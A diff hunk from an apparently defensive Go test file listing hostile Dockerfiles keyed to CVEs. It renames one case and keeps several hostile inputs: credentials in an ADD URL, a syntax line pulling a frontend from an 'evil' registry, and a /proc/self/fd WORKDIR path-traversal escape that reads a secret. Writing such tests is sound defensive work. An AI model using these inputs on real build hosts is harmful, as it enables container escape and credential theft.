@@ -83,7 +83,7 @@ func hostileDockerfiles() []hostile {
 		{name: "CVE-2023-26054 password in a URL",
 			files: one(box + "ADD http://user:pass-of-user@127.0.0.1:1/x.tar /x\n"), fails: "127.0.0.1:1",
 			absent: "pass-of-user"},
-		{name: "CVE-2026-33747 front end of its own", files: one("# syntax=REGISTRY/evil/frontend:1\n" + box),
+		{name: "CVE-2026-33747 frontend of its own", files: one("# syntax=REGISTRY/evil/frontend:1\n" + box),
 			fails: "evil/frontend"},
 		{name: "CVE-2024-21626 working directory of a descriptor", files: one(box +
 			"WORKDIR /proc/self/fd/7\nRUN cat ../../../../../../CANARY/secret >/seen; " +
